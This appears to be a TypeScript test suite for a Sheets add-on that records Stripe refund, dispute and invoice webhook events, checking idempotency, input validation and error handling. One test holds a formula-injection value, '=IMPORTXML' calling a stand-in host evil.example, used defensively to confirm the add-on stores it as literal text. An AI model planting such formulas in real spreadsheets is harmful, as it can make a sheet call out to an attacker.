/**
 * Refunds, disputes and invoices delivered to doPost (dist/Code.js in the local runtime): each
 * Stripe object one row of the Money after sale tab, exactly once and in any order, never a
 * Reconciliation row; impossible amounts and hostile text refused or kept literal; an unreadable
 * tab refused with retry; with a key, only Stripe's own copy of an event is recorded.
 */
import fc from 'fast-check';
import { FakeStripeApi } from '@stripe-utm-sheets/tools/fake-stripe';
import { LocalAddOn as AddOn } from '@stripe-utm-sheets/tools/local-add-on';
import { deleteHeaderRow } from './user-edits';
import { charge, dispute, invoice, moneyEvent, MONEY_SHAPES, type MoneyShape } from '../fixtures/money-events';

const KEY = 'rk_test_51LocalRestrictedKey0001';
const NOW = Math.floor(Date.UTC(2026, 10, 20, 12) / 1000);
const MONEY_TAB = 'Money after sale';

function addOn(): AddOn {
  const app = new AddOn(new FakeStripeApi({ keys: [KEY], now: () => NOW }));
  app.setUp();
  return app;
}

/** A charge refunded three times over a day, then disputed and lost: the events Stripe sends, oldest first. */
function history(shape: MoneyShape) {
  const at = (hours: number) => ({ created: NOW - 86_400 + hours * 3600 });
  const refund = (refunded: number, hours: number) =>
    moneyEvent(
      'charge.refunded',
      charge({ id: 'ch_3Hist', amount: 10000, amount_refunded: refunded, payment_intent: 'pi_3Hist' }, shape),
      at(hours),
    );
  const disputeAt = (status: string, hours: number, type: string) =>
    moneyEvent(type, dispute({ id: 'dp_3Hist', amount: 5000, status, charge: 'ch_3Hist', payment_intent: 'pi_3Hist' }, shape), at(hours));
  return [
    refund(1000, 1),
    refund(2500, 2),
    refund(4000, 3),
    disputeAt('needs_response', 4, 'charge.dispute.created'),
    disputeAt('under_review', 5, 'charge.dispute.updated'),
    disputeAt('lost', 6, 'charge.dispute.closed'),
  ];
}

describe.each(MONEY_SHAPES)('money events delivered in the %s shape', (shape) => {
  it('records each object once, in its own tab, and adds no Reconciliation row', () => {
    const app = addOn();
    const [first] = history(shape);
    expect(app.deliver(first!)).toMatchObject({ ok: true, result: 'inserted', verified: false });
    expect(app.deliver(first!)).toMatchObject({ ok: true, result: 'unchanged' });
    expect(app.rows()).toEqual([]);
    expect(app.rows(MONEY_TAB)).toEqual([
      expect.objectContaining({
        object_id: 'ch_3Hist',
        kind: 'refund',
        state: 'refunded in part',
        amount: 10,
        currency: 'usd',
        payment_intent: 'pi_3Hist',
      }),
    ]);
  });

  it('ends with the newest state of each object whatever order and however often the events arrive', () => {
    const events = history(shape);
    const inOrder = addOn();
    for (const event of events) inOrder.deliver(event);
    const expected = inOrder.rows(MONEY_TAB);
    expect(expected).toEqual([
      expect.objectContaining({ object_id: 'ch_3Hist', amount: 40, state: 'refunded in part' }),
      expect.objectContaining({ object_id: 'dp_3Hist', amount: 50, state: 'lost' }),
    ]);
    fc.assert(
      fc.property(fc.array(fc.nat({ max: events.length - 1 }), { minLength: events.length, maxLength: 14 }), fc.nat(), (picks, seed) => {
        const app = addOn();
        // Every event at least once, then repeats, in a shuffled order.
        const order = [...events.keys(), ...picks].map((i) => ({ i, k: (i * 7919 + seed) % 97 })).sort((a, b) => a.k - b.k);
        for (const { i } of order) expect(app.deliver(events[i]!)).toMatchObject({ ok: true });
        expect(app.rows(MONEY_TAB).sort((a, b) => String(a.object_id).localeCompare(String(b.object_id)))).toEqual(expected);
      }),
      { numRuns: 15 },
    );
  });

  it('records a renewal invoice with its subscription, and the first invoice apart', () => {
    const app = addOn();
    const paid = (id: string, reason: 'subscription_create' | 'subscription_cycle') =>
      moneyEvent(
        'invoice.paid',
        invoice({ id, amount_paid: 1500, billing_reason: reason, subscription: 'sub_3Subs', payment_intent: 'pi_3Inv' }, shape),
      );
    expect(app.deliver(paid('in_3First', 'subscription_create'))).toMatchObject({ ok: true, result: 'inserted' });
    expect(app.deliver(paid('in_3Renew', 'subscription_cycle'))).toMatchObject({ ok: true, result: 'inserted' });
    expect(app.rows(MONEY_TAB)).toEqual([
      expect.objectContaining({ object_id: 'in_3First', kind: 'invoice', state: 'subscription_create', subscription: 'sub_3Subs' }),
      expect.objectContaining({ object_id: 'in_3Renew', kind: 'invoice', state: 'subscription_cycle', amount: 15 }),
    ]);
  });

  it('refuses impossible amounts as bad input, writing nothing and asking for no retry', () => {
    const app = addOn();
    const above = app.deliver(
      moneyEvent('charge.refunded', charge({ amount: 1000, amount_refunded: 1500, payment_intent: 'pi_3Bad' }, shape)),
    );
    expect(above).toEqual({ ok: false, error: expect.stringMatching(/amount_refunded: .*more than the charge amount/) });
    const negative = app.deliver(
      moneyEvent('charge.dispute.created', dispute({ amount: -100, status: 'lost', charge: 'ch_3Bad', payment_intent: null }, shape)),
    );
    expect(negative).toEqual({ ok: false, error: expect.stringMatching(/^data\.object\.amount: -100 is negative/) });
    const fraction = app.deliver(
      moneyEvent('invoice.paid', invoice({ amount_paid: 15.5, billing_reason: 'subscription_cycle', subscription: 'sub_3Bad' }, shape)),
    );
    expect(fraction).toEqual({ ok: false, error: expect.stringMatching(/^data\.object\.amount_paid/) });
    expect(app.rows(MONEY_TAB)).toEqual([]);
  });

  it('keeps text from the event literal', () => {
    const app = addOn();
    const hostile = {
      ...invoice({ amount_paid: 100, billing_reason: 'subscription_cycle', subscription: 'sub_3Txt' }, shape),
      billing_reason: '=IMPORTXML("https://evil.example")',
    };
    expect(app.deliver(moneyEvent('invoice.paid', hostile))).toMatchObject({ ok: true, result: 'inserted' });
    expect(app.rows(MONEY_TAB)[0]?.state).toBe('=IMPORTXML("https://evil.example")');
    expect(app.formulas(MONEY_TAB)).toEqual([]);
  });
});

describe('money events, whatever else happens', () => {
  it.each(['refund.created', 'refund.updated', 'refund.failed', 'charge.refund.updated'])('acknowledges %s and records nothing', (type) => {
    const app = addOn();
    const refund = {
      id: 're_3Ack',
      object: 'refund',
      amount: 500,
      charge: 'ch_3Ack',
      payment_intent: 'pi_3Ack',
      status: 'succeeded',
      livemode: false,
    };
    expect(app.deliver(moneyEvent(type, refund))).toMatchObject({ ok: true, result: 'ignored' });
    expect(app.workbook.getSheet(MONEY_TAB)).toBeNull();
  });

  it("refuses, with retry and writing nothing, when the tab's header row was deleted", () => {
    const app = addOn();
    const [first, second] = history('current');
    app.deliver(first!);
    deleteHeaderRow(app.workbook, app.workbook.sheet(MONEY_TAB));
    const before = app.workbook.sheet(MONEY_TAB).values();
    const answer = app.deliver(second!);
    expect(answer).toMatchObject({
      ok: false,
      retry: true,
      error: expect.stringContaining(`The ${MONEY_TAB} tab's header row is missing`),
    });
    expect(app.workbook.sheet(MONEY_TAB).values()).toEqual(before);
  });

  it('finds its tab by its mark after a rename, and keeps one row per object', () => {
    const app = addOn();
    const [first, second] = history('current');
    app.deliver(first!);
    app.workbook.sheet(MONEY_TAB).name = 'Refunds 2026';
    expect(app.deliver(second!)).toMatchObject({ ok: true, result: 'updated' });
    expect(app.workbook.getSheet(MONEY_TAB)).toBeNull();
    expect(app.rows('Refunds 2026')).toEqual([expect.objectContaining({ object_id: 'ch_3Hist', amount: 25 })]);
  });

  it('with a key, refuses an event Stripe does not have, and writes nothing', () => {
    const app = addOn();
    app.menu('connectStripeKey', { button: 'OK', text: KEY });
    const answer = app.deliver(history('current')[0]!);
    expect(answer).toMatchObject({ ok: false, error: expect.stringContaining('Could not confirm') });
    expect(answer.retry).toBeUndefined();
    expect(app.workbook.getSheet(MONEY_TAB)).toBeNull();
  });
});
